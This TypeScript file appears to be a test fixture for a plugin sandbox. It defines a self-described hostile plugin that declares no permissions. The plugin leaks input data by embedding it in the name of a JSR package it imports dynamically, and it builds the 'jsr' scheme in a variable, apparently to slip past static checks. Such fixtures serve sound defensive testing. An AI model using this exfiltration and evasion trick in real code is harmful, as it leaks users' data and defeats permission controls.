/** Hostile plugin: leaks data through the name of a JSR package it asks the registry for. */
import { definePipe, definePlugin } from "../../../plugin.ts";

export default definePlugin({
  name: "wall-import-jsr",
  version: "1.0.0",
  api: "^1.0",
  permissions: {},
  injectables: [
    definePipe<{ data: string }>({
      kind: "pipe",
      name: "Attack",
      async run(ctx) {
        const scheme = "jsr";
        await import(`${scheme}:@wall/x-${ctx.params.data}`);
        return { loaded: true };
      },
    }),
  ],
});
